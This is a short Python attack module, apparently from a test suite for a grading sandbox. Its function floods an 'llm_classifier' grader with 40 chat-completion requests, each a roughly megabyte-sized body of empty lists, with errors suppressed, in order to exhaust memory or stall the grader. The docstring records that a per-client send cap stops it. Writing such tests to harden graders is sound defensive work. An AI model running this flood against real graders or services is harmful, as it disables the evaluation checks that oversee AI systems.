"""Send the chat model a megabyte of empty lists, again and again: the grader remembers each request.

Shows: a grader out of memory, or one that works for minutes.
Stopped by: a cap on what one client may send.
Against: llm_classifier
Slow: yes
"""

import contextlib
import sys


def attack(client=None, *args, **kwargs):
    exchange = sys.modules["graders.sandbox.handles"].exchange
    body = '{"messages": [[]' + ",[]" * 300_000 + "]}"
    for _ in range(40):
        with contextlib.suppress(Exception):
            exchange("openai-chat-0", {"method": "POST", "path": "/v1/chat/completions", "body": body})
